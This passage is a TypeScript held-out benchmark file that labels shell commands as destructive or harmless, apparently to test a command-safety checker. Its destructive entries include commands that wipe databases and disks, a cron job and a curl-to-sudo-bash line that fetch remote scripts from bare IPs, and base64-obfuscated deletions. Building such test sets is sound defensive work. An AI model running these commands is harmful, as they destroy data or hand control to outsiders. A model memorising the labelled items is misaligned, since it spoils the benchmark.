import type { LabelledCommand } from '../support/runtime.js';

/*
 * Held-out set 10 ("launchers and indirection"), 2026-12-01.
 * Written blind from knowledge of the tools and their public docs, before reading Interlock's analyzers,
 * tests or corpora, with the same labelling criteria as set 8. Each label says what the command DOES on a
 * real machine (cwd /home/dev/project, HOME /home/dev, every named path, host, bucket and resource exists):
 * destructive = destroys or overwrites data, grants power or exposure it should not, hands control to
 * someone else, takes down a service, or removes a safety net that protects data or records what happened;
 * harmless = reads, lists, status, dry runs, builds, tests, local scratch work, and normal day-to-day changes
 * that remove no protection.
 * Theme: the dangerous part is hidden one or more layers down, behind a launcher, wrapper, scheduler,
 * interpreter, shell construct or tool that runs commands; harmless cases use the same launchers for
 * everyday work.
 * It is a measuring stick: do NOT tune against it case by case.
 */

type Family =
  | 'credential-and-secret-injectors'
  | 'toolchain-and-dev-environments'
  | 'containers-vms-and-namespaces'
  | 'remote-shells-and-fleets'
  | 'schedulers-and-deferred'
  | 'interpreters-and-one-liners'
  | 'shells-and-quoting'
  | 'editors-pagers-and-tools-that-run-commands';

export interface HeldOutCase extends LabelledCommand {
  family: Family;
}

const d = (family: Family, command: string, extra: Partial<LabelledCommand> = {}): HeldOutCase => ({
  family,
  command,
  destructive: true,
  ...extra,
});
const h = (family: Family, command: string, extra: Partial<LabelledCommand> = {}): HeldOutCase => ({
  family,
  command,
  destructive: false,
  ...extra,
});

export const launchersSet: readonly HeldOutCase[] = [
  // credential-and-secret-injectors: destructive
  d(
    'credential-and-secret-injectors',
    'aws-vault exec prod -- aws s3 rm s3://billing-prod-invoices --recursive',
  ),
  d(
    'credential-and-secret-injectors',
    'aws-okta exec prd -- aws rds delete-db-instance --db-instance-identifier orders-prd --skip-final-snapshot',
  ),
  d(
    'credential-and-secret-injectors',
    'saml2aws exec --exec-profile prod -- aws dynamodb delete-table --table-name sessions-prod',
  ),
  d(
    'credential-and-secret-injectors',
    'assume prod-admin --exec -- aws ec2 terminate-instances --instance-ids i-0abc123def4567890',
  ),
  d(
    'credential-and-secret-injectors',
    'chamber exec billing-prod -- sh -c \'psql "$DATABASE_URL" -c "DROP TABLE invoices"\'',
  ),
  d(
    'credential-and-secret-injectors',
    'doppler run --project billing --config prd -- npx prisma migrate reset --force',
    {
      note: 'prisma migrate reset drops and recreates the database that the injected prd DATABASE_URL points at',
    },
  ),
  d(
    'credential-and-secret-injectors',
    'op run --env-file=./prod.env -- sh -c \'redis-cli -u "$REDIS_URL" FLUSHALL\'',
  ),
  d('credential-and-secret-injectors', 'infisical run --env=prod -- php artisan migrate:fresh --force', {
    note: 'migrate:fresh drops every table of the prod database before migrating',
  }),
  d('credential-and-secret-injectors', "teller run --reset -- gsutil -m rm -r 'gs://prod-db-backups/**'"),
  d(
    'credential-and-secret-injectors',
    'envconsul -prefix prod/db sh -c \'mysql -h "$DB_HOST" -u "$DB_USER" -p"$DB_PASS" -e "DROP DATABASE billing"\'',
  ),
  d(
    'credential-and-secret-injectors',
    "sops exec-env secrets/prod.enc.yaml 'kubectl --context prod delete namespace payments'",
  ),
  d(
    'credential-and-secret-injectors',
    'berglas exec -- sh -c \'psql "$DATABASE_URL" -c "TRUNCATE users CASCADE"\'',
    {
      env: { DATABASE_URL: 'berglas://billing-prod-secrets/database-url' },
      note: 'berglas resolves DATABASE_URL to the production database',
    },
  ),
  d(
    'credential-and-secret-injectors',
    "summon -p gopass --yaml 'PGPASSWORD: !var prod/db/admin' dropdb -h db.prod.internal -U admin orders",
  ),
  d(
    'credential-and-secret-injectors',
    'envchain aws-prod aws iam attach-user-policy --user-name contractor-jdoe --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
    { note: 'grants full admin on the production account to a contractor' },
  ),
  d(
    'credential-and-secret-injectors',
    'kubectl --as=system:admin --as-group=system:masters -n production delete deployment api',
  ),
  d(
    'credential-and-secret-injectors',
    'gcloud --impersonate-service-account=deployer@billing-prod.iam.gserviceaccount.com storage rm -r gs://billing-prod-exports',
  ),
  d(
    'credential-and-secret-injectors',
    'dotenvx run -f .env.production -- sh -c \'mongosh "$MONGO_URL" --eval "db.dropDatabase()"\'',
  ),
  // credential-and-secret-injectors: harmless
  h('credential-and-secret-injectors', 'aws-vault exec prod -- aws s3 ls'),
  h('credential-and-secret-injectors', 'aws-okta exec prd -- terraform plan -out=tfplan'),
  h(
    'credential-and-secret-injectors',
    'saml2aws exec --exec-profile prod -- aws logs tail /ecs/api-prod --since 1h',
  ),
  h(
    'credential-and-secret-injectors',
    'assume prod-readonly --exec "aws ec2 describe-instances --filters Name=tag:env,Values=prod"',
  ),
  h('credential-and-secret-injectors', 'chamber exec billing-dev -- npm start'),
  h('credential-and-secret-injectors', 'doppler run -- npm start'),
  h('credential-and-secret-injectors', 'op run --env-file=.env.tpl -- npm test'),
  h('credential-and-secret-injectors', 'infisical run --env=staging -- pytest -q'),
  h('credential-and-secret-injectors', 'teller run -- go test ./...'),
  h(
    'credential-and-secret-injectors',
    "sops exec-env secrets/prod.enc.yaml 'terraform plan -var-file=prod.tfvars'",
  ),
  h(
    'credential-and-secret-injectors',
    "summon --yaml 'AWS_PROFILE: prod-readonly' aws s3 ls s3://billing-prod-invoices/2026/",
  ),
  h('credential-and-secret-injectors', 'envchain aws-prod aws ecs list-services --cluster prod'),
  h('credential-and-secret-injectors', 'dotenv -e .env.test -- jest --ci'),
  h('credential-and-secret-injectors', 'kubectl auth can-i delete pods --as=jane@example.com -n production', {
    note: 'only asks the API server whether the impersonated user may delete pods',
  }),
  h(
    'credential-and-secret-injectors',
    'gcloud --impersonate-service-account=viewer@billing-prod.iam.gserviceaccount.com storage ls gs://billing-prod-exports',
  ),
  h(
    'credential-and-secret-injectors',
    'kubectl --as=system:serviceaccount:production:api-reader get pods -n production',
  ),
  h('credential-and-secret-injectors', 'berglas exec -- ./bin/server --port 8080', {
    env: { API_KEY: 'berglas://billing-dev-secrets/api-key' },
  }),
  // toolchain-and-dev-environments: destructive
  d('toolchain-and-dev-environments', "nix-shell -p postgresql --run 'dropdb -h db.prod.internal billing'"),
  d('toolchain-and-dev-environments', 'devbox run -- terraform destroy -auto-approve -var env=prod'),
  d(
    'toolchain-and-dev-environments',
    'devcontainer exec --workspace-folder . rm -rf /workspaces/project/.git',
    { note: 'the workspace folder in the container is a bind mount of the host project' },
  ),
  d(
    'toolchain-and-dev-environments',
    'mise exec python@3.12 -- python manage.py flush --no-input --database=production',
  ),
  d(
    'toolchain-and-dev-environments',
    'rbenv exec bundle exec rake db:drop RAILS_ENV=production DISABLE_DATABASE_ENVIRONMENT_CHECK=1',
  ),
  d(
    'toolchain-and-dev-environments',
    "nvm exec 20 node -e \"require('fs').rmSync('/home/dev/project', { recursive: true, force: true })\"",
  ),
  d(
    'toolchain-and-dev-environments',
    'conda run -n etl python -c "import shutil; shutil.rmtree(\'/data/warehouse\')"',
  ),
  d('toolchain-and-dev-environments', 'poetry run alembic downgrade base', {
    env: { DATABASE_URL: 'postgresql://admin@db.prod.internal/billing' },
    note: 'downgrading to base drops every migrated table of the production database',
  }),
  d(
    'toolchain-and-dev-environments',
    'uv run --with boto3 python -c \'import boto3; boto3.resource("s3").Bucket("prod-uploads").objects.all().delete()\'',
  ),
  d(
    'toolchain-and-dev-environments',
    'npx -y firebase-tools firestore:delete --all-collections --project billing-prod --force',
  ),
  d('toolchain-and-dev-environments', 'pnpm dlx wrangler r2 bucket delete prod-assets'),
  d('toolchain-and-dev-environments', 'bunx supabase db reset --linked', {
    note: '--linked resets the remote (linked) project database, not a local one',
  }),
  d(
    'toolchain-and-dev-environments',
    'go run github.com/pressly/goose/v3/cmd/goose@latest -dir migrations postgres "postgres://admin@db.prod.internal/billing" reset',
  ),
  d(
    'toolchain-and-dev-environments',
    'dotnet ef database drop --force --connection "Server=sql-prod.internal;Database=Billing;User Id=sa"',
  ),
  d(
    'toolchain-and-dev-environments',
    "printf 'clean:\\n\\trm -rf $(HOME)/.ssh\\n' > /tmp/mk && make -f /tmp/mk clean",
  ),
  d('toolchain-and-dev-environments', 'npm pkg set scripts.reset="rm -rf ~/.aws" && npm run reset'),
  d('toolchain-and-dev-environments', 'pdm run celery -A billing purge -f -Q invoices', {
    env: { CELERY_BROKER_URL: 'amqp://admin@mq.prod.internal:5672//' },
    note: 'purges every queued task from the production broker',
  }),
  // toolchain-and-dev-environments: harmless
  h('toolchain-and-dev-environments', 'nix develop -c make test'),
  h('toolchain-and-dev-environments', "nix-shell -p jq --run 'jq -r .version package.json'"),
  h('toolchain-and-dev-environments', 'devbox run -- go build ./...'),
  h('toolchain-and-dev-environments', 'devcontainer exec --workspace-folder . npm ci'),
  h('toolchain-and-dev-environments', 'mise exec node@20 -- node --version'),
  h('toolchain-and-dev-environments', 'asdf exec python -m pytest tests/unit'),
  h('toolchain-and-dev-environments', 'pyenv exec python -m venv .venv'),
  h('toolchain-and-dev-environments', 'mamba run -n ml python train.py --epochs 1 --dry-run'),
  h('toolchain-and-dev-environments', 'pipenv run python manage.py showmigrations', {
    env: { DJANGO_SETTINGS_MODULE: 'config.settings.production' },
  }),
  h('toolchain-and-dev-environments', "bundle exec rails runner -e production 'puts User.count'"),
  h('toolchain-and-dev-environments', 'cargo run --release -- --help'),
  h(
    'toolchain-and-dev-environments',
    'go run github.com/pressly/goose/v3/cmd/goose@latest -dir migrations postgres "postgres://readonly@db.prod.internal/billing" status',
  ),
  h('toolchain-and-dev-environments', "printf 'lint:\\n\\tgo vet ./...\\n' | make -f - lint"),
  h('toolchain-and-dev-environments', 'task --dry db:reset-prod', {
    note: '--dry prints the commands of the task without running them',
  }),
  h('toolchain-and-dev-environments', 'poetry run pytest -x'),
  h('toolchain-and-dev-environments', 'uv run ruff check .'),
  h('toolchain-and-dev-environments', 'npx -y prettier --check .'),
  // containers-vms-and-namespaces: destructive
  d('containers-vms-and-namespaces', 'docker run --rm -v /:/host alpine rm -rf /host/var/lib/postgresql'),
  d(
    'containers-vms-and-namespaces',
    'podman run --rm --privileged -v /dev:/dev fedora dd if=/dev/zero of=/dev/sda bs=4M count=10',
  ),
  d(
    'containers-vms-and-namespaces',
    "docker exec -it billing-db psql -U postgres -c 'DROP DATABASE billing'",
  ),
  d(
    'containers-vms-and-namespaces',
    'docker compose -f docker-compose.prod.yml run --rm web bin/rails db:schema:load DISABLE_DATABASE_ENVIRONMENT_CHECK=1',
  ),
  d(
    'containers-vms-and-namespaces',
    "docker compose -f compose.prod.yaml exec -T db mysql -uroot -e 'DROP DATABASE shop'",
  ),
  d('containers-vms-and-namespaces', 'kubectl exec -n production deploy/api -- rm -rf /data/uploads'),
  d(
    'containers-vms-and-namespaces',
    'kubectl debug node/prod-node-3 -it --image=busybox -- chroot /host rm -rf /var/lib/kubelet',
    { note: 'a node debug pod mounts the node root filesystem at /host' },
  ),
  d(
    'containers-vms-and-namespaces',
    "kubectl run psql-tmp --rm -i --restart=Never --image=postgres:16 -n production -- psql -h orders-db -U admin -c 'TRUNCATE orders'",
  ),
  d('containers-vms-and-namespaces', 'sudo nsenter -t 1 -m -u -i -n -p -- rm -rf /var/log/journal'),
  d('containers-vms-and-namespaces', "sudo unshare --mount --fork sh -c 'rm -rf /srv/data'", {
    note: 'a new mount namespace still sees the same filesystems',
  }),
  d(
    'containers-vms-and-namespaces',
    'sudo systemd-nspawn -D /var/lib/machines/db-prod --bind=/srv/pgdata rm -rf /srv/pgdata/base',
    { note: '/srv/pgdata is bind-mounted from the host' },
  ),
  d('containers-vms-and-namespaces', 'lxc exec prod-web -- systemctl stop nginx'),
  d('containers-vms-and-namespaces', "vagrant ssh -c 'sudo rm -rf /vagrant/*'", {
    note: '/vagrant is the synced host project folder',
  }),
  d('containers-vms-and-namespaces', 'distrobox enter arch -- rm -rf ~/Documents', {
    note: 'distrobox containers share the host home directory',
  }),
  d('containers-vms-and-namespaces', 'wsl -d Ubuntu -- rm -rf /mnt/c/Users/dev/Documents'),
  d(
    'containers-vms-and-namespaces',
    'docker run --rm -v /var/run/docker.sock:/var/run/docker.sock docker:cli docker volume prune -af',
    { note: 'the mounted socket drives the host daemon, so every unused host volume is deleted' },
  ),
  d('containers-vms-and-namespaces', 'multipass exec primary -- rm -rf Home/project', {
    note: 'the primary instance mounts the host home directory at ~/Home',
  }),
  // containers-vms-and-namespaces: harmless
  h('containers-vms-and-namespaces', 'docker run --rm -v "$PWD":/src -w /src node:20 npm test'),
  h(
    'containers-vms-and-namespaces',
    "docker run --rm alpine sh -c 'rm -rf /tmp/* /var/cache/apk/* && ls /'",
    { note: 'deletes only inside a throwaway container with no mounts' },
  ),
  h('containers-vms-and-namespaces', 'podman run --rm -v ./:/work:ro,Z fedora ls -la /work'),
  h('containers-vms-and-namespaces', "docker exec billing-db psql -U postgres -c '\\dt'"),
  h('containers-vms-and-namespaces', 'docker compose run --rm web bundle exec rspec'),
  h('containers-vms-and-namespaces', 'docker compose exec -T db pg_dump -U postgres shop > shop.sql'),
  h('containers-vms-and-namespaces', 'kubectl exec -n production deploy/api -- ls -la /data/uploads'),
  h(
    'containers-vms-and-namespaces',
    'kubectl debug -it pod/api-7d9f8c6b5-x2x4q -n production --image=busybox --target=api -- ps aux',
  ),
  h(
    'containers-vms-and-namespaces',
    'kubectl run curl-test --rm -i --restart=Never --image=curlimages/curl -n staging -- curl -s http://api/healthz',
  ),
  h('containers-vms-and-namespaces', 'sudo nsenter -t 4242 -n ss -tlnp'),
  h('containers-vms-and-namespaces', 'sudo ip netns exec vpn-prod ip route show'),
  h('containers-vms-and-namespaces', "sudo chroot /mnt/rescue /bin/bash -c 'cat /etc/fstab'"),
  h(
    'containers-vms-and-namespaces',
    'sudo systemd-nspawn -D /var/lib/machines/debian --ephemeral -- apt-get install -y curl',
    { note: '--ephemeral runs on a throwaway snapshot that is discarded on exit' },
  ),
  h('containers-vms-and-namespaces', 'lxc exec prod-web -- systemctl status nginx --no-pager'),
  h('containers-vms-and-namespaces', "vagrant ssh -c 'cd /vagrant && make test'"),
  h('containers-vms-and-namespaces', 'limactl shell default nerdctl ps -a'),
  h('containers-vms-and-namespaces', 'wsl -d Ubuntu -- ls /mnt/c/Users/dev'),
  // remote-shells-and-fleets: destructive
  d(
    'remote-shells-and-fleets',
    "ssh -o StrictHostKeyChecking=no -i ~/.ssh/prod.pem ubuntu@db1.prod.example.com 'sudo rm -rf /var/lib/postgresql/16/main'",
  ),
  d('remote-shells-and-fleets', 'mosh admin@bastion.prod -- sudo shutdown -h now'),
  d('remote-shells-and-fleets', 'autossh -M 0 -f -N -R 0.0.0.0:15432:localhost:5432 ops@jump.example.com', {
    note: 'publishes the local database on every interface of a public jump host',
  }),
  d('remote-shells-and-fleets', 'sshpass -p "$PROD_PW" ssh root@10.0.4.12 \'mkfs.ext4 -F /dev/sdb1\''),
  d(
    'remote-shells-and-fleets',
    "gcloud compute ssh prod-db-1 --zone us-central1-a --command 'sudo -u postgres dropdb billing'",
  ),
  d(
    'remote-shells-and-fleets',
    'aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters \'commands=["rm -rf /var/app/data"]\'',
  ),
  d(
    'remote-shells-and-fleets',
    "az vm run-command invoke -g rg-prod -n vm-sql01 --command-id RunShellScript --scripts 'rm -rf /datadrive/mssql'",
  ),
  d('remote-shells-and-fleets', "heroku run -a billing-prod 'python manage.py flush --noinput'"),
  d('remote-shells-and-fleets', "fly ssh console -a api-prod -C 'rm -rf /data/uploads'"),
  d('remote-shells-and-fleets', 'railway run -e production -- npx knex migrate:rollback --all', {
    note: 'runs locally with the production variables, so it rolls back the production database',
  }),
  d('remote-shells-and-fleets', 'kubectl --context prod-eu exec -i -n payments redis-0 -- redis-cli FLUSHDB'),
  d('remote-shells-and-fleets', "ansible prod -i inventory/prod -b -m shell -a 'rm -rf /var/www/releases/*'"),
  d(
    'remote-shells-and-fleets',
    "ansible all -i inventory/prod -b -m ansible.builtin.user -a 'name=contractor groups=sudo append=yes'",
    { note: 'grants sudo on every production host' },
  ),
  d('remote-shells-and-fleets', "salt 'web*' cmd.run 'systemctl stop nginx'"),
  d('remote-shells-and-fleets', "clush -g prod -b 'iptables -F'", {
    note: 'flushes the firewall rules on every production host',
  }),
  d('remote-shells-and-fleets', "fab -H web1.prod,web2.prod -- 'sudo rm -rf /srv/app/shared/uploads'"),
  d(
    'remote-shells-and-fleets',
    "knife ssh 'role:db AND chef_environment:production' 'sudo systemctl stop mysql' -x ubuntu",
  ),
  // remote-shells-and-fleets: harmless
  h('remote-shells-and-fleets', "ssh -o BatchMode=yes deploy@web-prod-01 'uptime && df -h'"),
  h('remote-shells-and-fleets', 'mosh dev@devbox.internal -- tmux attach -t work'),
  h('remote-shells-and-fleets', 'autossh -M 0 -f -N -L 5433:db.prod.internal:5432 bastion.prod'),
  h('remote-shells-and-fleets', "sshpass -f ~/.config/lab.pass ssh pi@192.168.1.40 'vcgencmd measure_temp'"),
  h(
    'remote-shells-and-fleets',
    "gcloud compute ssh prod-db-1 --zone us-central1-a --tunnel-through-iap --command 'systemctl status postgresql --no-pager'",
  ),
  h(
    'remote-shells-and-fleets',
    'aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-0abc123def4567890 --parameters \'commands=["df -h","free -m"]\'',
  ),
  h(
    'remote-shells-and-fleets',
    "az vm run-command invoke -g rg-prod -n vm-sql01 --command-id RunShellScript --scripts 'uptime'",
  ),
  h('remote-shells-and-fleets', "heroku run --app billing-prod -- rails runner 'puts Invoice.count'"),
  h('remote-shells-and-fleets', "fly ssh console -a api-prod -C 'ls -la /data'"),
  h('remote-shells-and-fleets', 'railway run --environment staging npm test'),
  h(
    'remote-shells-and-fleets',
    'kubectl --context prod-eu exec -n payments redis-0 -- redis-cli INFO keyspace',
  ),
  h('remote-shells-and-fleets', 'ansible prod -i inventory/prod -m ping'),
  h('remote-shells-and-fleets', "salt 'db*' cmd.run 'pg_lsclusters'"),
  h('remote-shells-and-fleets', "clush -g prod -b 'systemctl is-active nginx'"),
  h('remote-shells-and-fleets', "fab -H web1.prod -- 'cat /srv/app/current/REVISION'"),
  h('remote-shells-and-fleets', 'bundle exec cap production doctor'),
  h(
    'remote-shells-and-fleets',
    "knife ssh 'role:web AND chef_environment:production' 'sudo chef-client --why-run' -x ubuntu",
    { note: '--why-run only reports what chef would change' },
  ),
  // schedulers-and-deferred: destructive
  d('schedulers-and-deferred', "echo 'rm -rf /srv/backups/*' | at now + 2 hours"),
  d('schedulers-and-deferred', "batch <<'EOF'\nfind /var/lib/docker/volumes -mindepth 1 -delete\nEOF"),
  d('schedulers-and-deferred', "(crontab -l; echo '0 * * * * rm -rf /home/dev/project/.git') | crontab -"),
  d(
    'schedulers-and-deferred',
    "echo '*/5 * * * * root curl -s http://203.0.113.9/x.sh | sh' | sudo tee /etc/cron.d/update",
    { note: 'installs a root cron job that runs a remote script every five minutes' },
  ),
  d(
    'schedulers-and-deferred',
    "sudo systemd-run --on-calendar='*-*-* 02:00:00' /bin/sh -c 'pg_dropcluster --stop 16 main'",
  ),
  d('schedulers-and-deferred', "nohup sh -c 'sleep 600; rm -rf /var/www/html' >/dev/null 2>&1 &"),
  d('schedulers-and-deferred', 'setsid -f dd if=/dev/zero of=/dev/nvme1n1 bs=1M'),
  d('schedulers-and-deferred', "tmux new-session -d -s wipe 'shred -u -n 3 /srv/data/*.db'"),
  d('schedulers-and-deferred', "screen -dmS purge bash -c 'aws s3 rm s3://prod-logs --recursive'"),
  d('schedulers-and-deferred', "watch -n 60 'docker system prune -af --volumes'"),
  d('schedulers-and-deferred', 'timeout 30m kubectl delete namespace production --wait=true'),
  d(
    'schedulers-and-deferred',
    "flock /tmp/deploy.lock -c 'rsync -a --delete ./empty/ deploy@web-prod:/var/www/'",
    { note: 'syncing an empty directory with --delete empties the remote web root' },
  ),
  d(
    'schedulers-and-deferred',
    'parallel -j8 \'psql -h db.prod.internal -c "DROP TABLE {}"\' ::: events sessions audit_log',
  ),
  d('schedulers-and-deferred', 'ls /srv/tenants | xargs -P 4 -I{} rm -rf /srv/tenants/{}'),
  d('schedulers-and-deferred', "git ls-files | entr -s 'git reset --hard HEAD && make test'", {
    note: 'entr runs the command at once and on every save, discarding uncommitted work',
  }),
  d(
    'schedulers-and-deferred',
    'sudo start-stop-daemon --stop --pidfile /run/postgresql/16-main.pid --retry=KILL/5',
  ),
  d('schedulers-and-deferred', "dtach -n /tmp/job.sock sh -c 'gsutil -m rm -r gs://prod-ml-datasets'"),
  // schedulers-and-deferred: harmless
  h(
    'schedulers-and-deferred',
    "echo 'make -C /home/dev/project test > /tmp/test.log 2>&1' | at now + 1 hour",
  ),
  h('schedulers-and-deferred', "batch <<< 'tar czf /tmp/project-snapshot.tgz -C /home/dev project'"),
  h(
    'schedulers-and-deferred',
    "(crontab -l 2>/dev/null; echo '0 9 * * 1-5 cd /home/dev/project && git fetch --all -q') | crontab -",
  ),
  h('schedulers-and-deferred', "systemd-run --user --on-active=15m notify-send 'stand-up in 5'"),
  h('schedulers-and-deferred', 'nohup npm run dev > dev.log 2>&1 &'),
  h('schedulers-and-deferred', 'setsid -f python3 -m http.server 8000 --bind 127.0.0.1'),
  h('schedulers-and-deferred', "tmux new-session -d -s build 'cargo build --release 2>&1 | tee build.log'"),
  h('schedulers-and-deferred', 'screen -dmS logs journalctl -fu nginx'),
  h('schedulers-and-deferred', "watch -n 5 'kubectl get pods -n production'"),
  h('schedulers-and-deferred', 'timeout 10s curl -sS https://api.prod.example.com/healthz'),
  h(
    'schedulers-and-deferred',
    'flock -n /tmp/backup.lock pg_dump -h db.prod.internal -Fc billing -f /home/dev/backups/billing-$(date +%F).dump',
  ),
  h('schedulers-and-deferred', "find . -name '*.pyc' -exec rm -f {} +"),
  h('schedulers-and-deferred', 'git ls-files | entr -c npm test'),
  h('schedulers-and-deferred', 'watchexec -e rs -- cargo test'),
  h('schedulers-and-deferred', 'while inotifywait -qq -e close_write src/; do make; done'),
  h('schedulers-and-deferred', "xargs -P 8 -n 1 curl -sfo /dev/null -w '%{http_code}\\n' < urls.txt"),
  h('schedulers-and-deferred', 'sudo start-stop-daemon --status --pidfile /run/nginx.pid'),
  // interpreters-and-one-liners: destructive
  d('interpreters-and-one-liners', 'python3 -c "import shutil; shutil.rmtree(\'/home/dev/project\')"'),
  d('interpreters-and-one-liners', 'python -c \'import os; os.system("rm -rf ~/.aws")\''),
  d('interpreters-and-one-liners', 'perl -e \'unlink glob "/var/lib/mysql/*.ibd"\''),
  d(
    'interpreters-and-one-liners',
    'ruby -e \'require "fileutils"; FileUtils.rm_rf(File.join(Dir.home, "project"))\'',
  ),
  d(
    'interpreters-and-one-liners',
    "node -e \"require('child_process').execSync('dropdb -h db.prod.internal billing')\"",
  ),
  d('interpreters-and-one-liners', 'php -r \'file_put_contents("/etc/nginx/nginx.conf", "");\''),
  d('interpreters-and-one-liners', 'awk \'BEGIN { system("rm -rf /var/backups/*") }\''),
  d('interpreters-and-one-liners', "sed -n '1e rm -rf /home/dev/.ssh' README.md", {
    note: "GNU sed's e command runs its argument in a shell",
  }),
  d('interpreters-and-one-liners', 'lua -e \'os.execute("rm -rf /opt/app/shared")\''),
  d('interpreters-and-one-liners', 'Rscript -e \'unlink("/data/warehouse", recursive = TRUE)\''),
  d('interpreters-and-one-liners', 'osascript -e \'do shell script "rm -rf ~/Documents"\''),
  d(
    'interpreters-and-one-liners',
    'pwsh -NoProfile -Command "Remove-Item -Recurse -Force /home/dev/project"',
  ),
  d(
    'interpreters-and-one-liners',
    'deno eval \'await Deno.remove("/home/dev/project/db", { recursive: true })\'',
  ),
  d(
    'interpreters-and-one-liners',
    'bun -e \'require("fs").rmSync("/srv/uploads", { recursive: true, force: true })\'',
  ),
  d('interpreters-and-one-liners', "echo 'cm0gLXJmIC9ob21lL2Rldi9wcm9qZWN0' | base64 -d | sh", {
    note: 'decodes to rm -rf /home/dev/project',
  }),
  d(
    'interpreters-and-one-liners',
    "xxd -r -p <<< '726d202d7266202f7661722f6c69622f706f737467726573716c' | bash",
    { note: 'decodes to rm -rf /var/lib/postgresql' },
  ),
  d('interpreters-and-one-liners', 'curl -fsSL http://203.0.113.50/payload.sh | sudo bash', {
    note: 'runs an unreviewed script from a bare IP address as root',
  }),
  // interpreters-and-one-liners: harmless
  h('interpreters-and-one-liners', "perl -pi -e 's/localhost:5432/db.dev.internal:5432/' config/dev.yml"),
  h('interpreters-and-one-liners', 'ruby -e \'puts Dir["spec/**/*_spec.rb"].size\''),
  h('interpreters-and-one-liners', 'node -e "console.log(require(\'./package.json\').dependencies)"'),
  h('interpreters-and-one-liners', "php -r 'echo PHP_VERSION, PHP_EOL;'"),
  h('interpreters-and-one-liners', 'awk \'BEGIN { system("date -u") }\''),
  h('interpreters-and-one-liners', "sed '1e date -u' CHANGELOG.md"),
  h('interpreters-and-one-liners', 'lua -e \'print(os.date("%F"))\''),
  h('interpreters-and-one-liners', 'Rscript -e \'summary(read.csv("data/metrics.csv"))\''),
  h('interpreters-and-one-liners', 'osascript -e \'display notification "build done" with title "make"\''),
  h(
    'interpreters-and-one-liners',
    'pwsh -NoProfile -Command "Get-ChildItem -Recurse -Filter *.log | Measure-Object -Property Length -Sum"',
  ),
  h('interpreters-and-one-liners', "deno eval 'console.log(Deno.version)'"),
  h('interpreters-and-one-liners', 'bun -e \'console.log((await Bun.file("package.json").json()).scripts)\''),
  h('interpreters-and-one-liners', "echo 'bHMgLWxhIC9ob21lL2Rldi9wcm9qZWN0' | base64 -d | sh", {
    note: 'decodes to ls -la /home/dev/project',
  }),
  h('interpreters-and-one-liners', 'curl -fsSL https://sh.rustup.rs | sh -s -- -y --profile minimal'),
  h('interpreters-and-one-liners', "printf 'System.out.println(Runtime.version());\\n/exit\\n' | jshell -q"),
  h(
    'interpreters-and-one-liners',
    'python3 -c \'import shutil; shutil.rmtree("build", ignore_errors=True)\'',
  ),
  h('interpreters-and-one-liners', "xxd -r -p <<< '676974206c6f67202d2d6f6e656c696e65202d35' | sh", {
    note: 'decodes to git log --oneline -5',
  }),
  // shells-and-quoting: destructive
  d('shells-and-quoting', 'bash -c "sh -c \'rm -rf /home/dev/project\'"'),
  d('shells-and-quoting', 'cmd=\'rm -rf /srv/www\'; eval "$cmd"'),
  d('shells-and-quoting', "source <(echo 'git push --force origin main')"),
  d('shells-and-quoting', "bash <<'EOF'\nset -e\ncd /srv/app\nrm -rf shared/uploads\nEOF"),
  d('shells-and-quoting', "bash <<< 'kubectl --context prod delete ns billing'"),
  d('shells-and-quoting', "$'\\x72\\x6d' -rf /home/dev/project", { note: "$'\\x72\\x6d' is rm" }),
  d('shells-and-quoting', '{rm,-rf,/home/dev/.ssh}', {
    note: 'brace expansion turns the single word into rm -rf /home/dev/.ssh',
  }),
  d('shells-and-quoting', 'cleanup() { rm -rf "$1"; }; cleanup /home/dev/project/data'),
  d(
    'shells-and-quoting',
    "shopt -s expand_aliases\nalias wipe='redis-cli -h redis.prod.internal FLUSHALL'\nwipe",
  ),
  d('shells-and-quoting', 'IFS=,; cmd=rm,-rf,/opt/app; $cmd', {
    note: 'with IFS set to a comma the unquoted $cmd splits into rm -rf /opt/app',
  }),
  d('shells-and-quoting', '\\rm -rf /home/dev/project/.git'),
  d('shells-and-quoting', 'command rm -rf /var/www/html'),
  d('shells-and-quoting', "builtin eval 'sudo dd if=/dev/zero of=/dev/sda bs=1M count=1'"),
  d('shells-and-quoting', 'exec sudo shutdown -h now'),
  d('shells-and-quoting', "sh <<'EOF'\n\\rm -rf /home/dev/project\nEOF"),
  d('shells-and-quoting', '\'r\'"m" -rf /home/dev/work'),
  d('shells-and-quoting', 'bash -c "$(printf \'r%s -rf %s\' m /srv/backups)"'),
  // shells-and-quoting: harmless
  h('shells-and-quoting', 'bash -c \'echo "rm -rf / is a bad idea"\''),
  h('shells-and-quoting', 'cmd=\'ls -la /srv/www\'; eval "$cmd"'),
  h('shells-and-quoting', 'source <(kubectl completion bash)'),
  h('shells-and-quoting', 'bash <<\'EOF\'\nfor f in src/*.ts; do wc -l "$f"; done\nEOF'),
  h('shells-and-quoting', "cat <<'EOF' > /tmp/notes.txt\nnever run rm -rf on prod\nEOF"),
  h('shells-and-quoting', "$'\\x6c\\x73' -la /home/dev", { note: "$'\\x6c\\x73' is ls" }),
  h('shells-and-quoting', 'mkdir -p build/{debug,release}/{bin,obj}'),
  h('shells-and-quoting', 'cp config.yml{,.bak}'),
  h('shells-and-quoting', 'greet() { echo "hello $1"; }; greet prod'),
  h('shells-and-quoting', 'X="git status --short"; $X'),
  h('shells-and-quoting', 'IFS=: read -ra dirs <<< "$PATH"; printf \'%s\\n\' "${dirs[@]}"'),
  h('shells-and-quoting', '\\ls -la ~/.config'),
  h('shells-and-quoting', "builtin echo 'DROP DATABASE billing;' > /tmp/draft.sql"),
  h('shells-and-quoting', "sh <<'EOF'\n\\ls -la /home/dev/project\nEOF"),
  h('shells-and-quoting', 'bash -c "$(printf \'%s \' git log --oneline -5)"'),
  h('shells-and-quoting', "shopt -s expand_aliases\nalias gs='git status'\ngs"),
  h('shells-and-quoting', "echo 'rm -rf node_modules' | bash"),
  // editors-pagers-and-tools-that-run-commands: destructive
  d('editors-pagers-and-tools-that-run-commands', "vim -c '!rm -rf /home/dev/project/.git' -c 'qa!'"),
  d('editors-pagers-and-tools-that-run-commands', "ex -sc '%d|x' config/production.yml"),
  d(
    'editors-pagers-and-tools-that-run-commands',
    "nvim --headless +'!kubectl --context prod delete deployment api' +qa",
  ),
  d('editors-pagers-and-tools-that-run-commands', "git -c alias.x='!rm -rf .git' x"),
  d('editors-pagers-and-tools-that-run-commands', "git -c core.pager='rm -rf ~/.ssh; less' log"),
  d(
    'editors-pagers-and-tools-that-run-commands',
